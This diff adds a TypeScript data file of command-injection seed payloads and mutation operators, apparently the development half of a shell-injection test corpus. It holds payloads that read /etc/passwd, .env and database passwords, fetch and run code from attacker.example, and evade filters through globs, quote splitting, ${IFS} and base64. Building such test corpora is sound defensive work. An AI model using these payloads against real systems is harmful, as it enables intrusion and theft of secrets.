@@ -1,0 +1,118 @@
+// Seeds and operators of the shell of the development half, by the lists of the field (WSTG-INPV-12, the command injection
+// notes of PortSwigger); the held-out half stands in a file of its own (shell.held.data.ts).
+import type { Operator, Seed } from "./contract.ts"
+import { swap } from "./operator.ts"
+import { seeds } from "./seed.ts"
+
+export const SHELL_SEEDS: readonly Seed[] = [
+    ...seeds("dev", "sh argument", [
+        "x; id",
+        "x;id",
+        "x | id",
+        "x|id",
+        "x && id",
+        "x > /no/x || id",
+        "x & id",
+        "x\nid",
+        "$(id)",
+        "`id`",
+        "x; cat /etc/passwd",
+        "x;cat</etc/passwd",
+        "x;cat${IFS}/etc/passwd",
+        "x; cat .env",
+        "x; uname -a",
+        "x; ls / > /tmp/o",
+        "x; sleep 5",
+        "x; ping -c 3 127.0.0.1",
+        "x; curl http://attacker.example/s.sh | sh",
+        "x; wget -q -O- attacker.example",
+        "x; nslookup a.attacker.example",
+        "$(sleep 5)",
+        "`cat /etc/passwd`",
+        "x; /usr/bin/id",
+        "x; echo $DB_PASSWORD",
+        "$DB_PASSWORD",
+        "x; env",
+        "x; echo aWQ= | base64 -d | sh",
+        "x; touch pwned",
+        "x > pwned",
+        "x; sh -c id",
+        "x; eval id",
+        "x; /b??/cat /etc/p?sswd",
+        "x; i\\d",
+        "x; 'i'd",
+        'x; i""d',
+        "x; a=i;b=d;$a$b",
+        "x; cat /etc/passwd #",
+    ]),
+    ...seeds("dev", "bash argument", [
+        "x;{cat,/etc/passwd}",
+        "x; bash -c id",
+        "x; sh <<< id",
+        "x; $'\\x69d'",
+        "x |& id",
+        "x; cat /etc/pass{wd,}",
+    ]),
+    ...seeds("dev", "sh single", [
+        "'; id; '",
+        "'$(id)'",
+        "'`id`'",
+        "'; cat /etc/passwd #",
+        "'|id #",
+        "' && id && echo '",
+    ]),
+    ...seeds("dev", "sh double", [
+        "$(id)",
+        "`id`",
+        '"; id; "',
+        '"; cat /etc/passwd #',
+        '" | id #',
+        "$(cat /etc/passwd)",
+        "$DB_PASSWORD",
+    ]),
+    ...seeds("dev", "bash double", ["${DB_PASSWORD}", '";{cat,/etc/passwd};"', "$(</etc/passwd)"]),
+    ...seeds("dev", "sh backtick", ["x; id", "x`; id; echo `", "x | cat /etc/passwd", "$(id)"]),
+    ...seeds("dev", "sh file", [
+        "logo.txt; id; echo ",
+        "x;id #",
+        "../../../../etc/passwd;id #",
+        "$(id)",
+        "logo.txt|cat /etc/passwd;",
+    ]),
+    ...seeds("dev", "sh assignment", ["x; id", "$(id)", "`id`"]),
+    ...seeds("dev", "sh pipe", ["x; id", "x | id", "$(id)", "$(cat /etc/passwd)"]),
+    ...seeds("dev", "sh here", ["$(id)", "`id`", "\nEND\nid\n", "$(cat /etc/passwd)", "$DB_PASSWORD"]),
+]
+
+const PROGRAM = /\b(?:id|cat|uname|env)\b(?!=)/g
+
+export const SHELL_OPERATORS: readonly Operator[] = [
+    swap("dev", "white space", / /g, ["\t", "  ", "${IFS}", "$IFS"]),
+    swap("dev", "separators", /; ?|\|(?!&)| && | & /g, [";", "|", "&&", "\n", "&", " ; "]),
+    swap("dev", "quotes in words", PROGRAM, [
+        (word) => `${word.charAt(0)}''${word.slice(1)}`,
+        (word) => `${word.charAt(0)}""${word.slice(1)}`,
+        (word) => `${word.charAt(0)}\\${word.slice(1)}`,
+        (word) => `'${word}'`,
+    ]),
+    swap("dev", "empty variables", PROGRAM, [
+        (word) => `${word.charAt(0)}$@${word.slice(1)}`,
+        (word) => `${word.charAt(0)}\${x}${word.slice(1)}`,
+        (word) => `${word}$x`,
+    ]),
+    swap("dev", "globs", /\/etc\/passwd/g, ["/etc/p*d", "/e??/passwd", "/etc/pass[w]d", "/etc/p?????", "/*/passwd"]),
+    swap("dev", "full paths", PROGRAM, [
+        (word) => `/usr/bin/${word}`,
+        (word) => `/bin/${word}`,
+        (word) => `/bin/../bin/${word}`,
+    ]),
+    swap("dev", "wrappers", PROGRAM, [(word) => `command ${word}`, (word) => `exec ${word}`, (word) => `env ${word}`]),
+    swap("dev", "substitution", /\$\((\w+)\)|`(\w+)`/g, [
+        (whole) => `$(${whole.replace(/[$()`]/g, "")})`,
+        (whole) => `\`${whole.replace(/[$()`]/g, "")}\``,
+        (whole) => `$( ${whole.replace(/[$()`]/g, "")} )`,
+    ]),
+    swap("dev", "endings", /$/g, [" #", ";", " 2>&1", " &", "\n"]),
+    swap("dev", "text before", /^x/g, ["127.0.0.1", "report.pdf", "a@b.example", ""]),
+    swap("dev", "encoded", /\bid$/g, ["echo aWQK|base64 -d|sh", "printf '\\151\\144'|sh", "$(printf '\\151\\144')"]),
+]
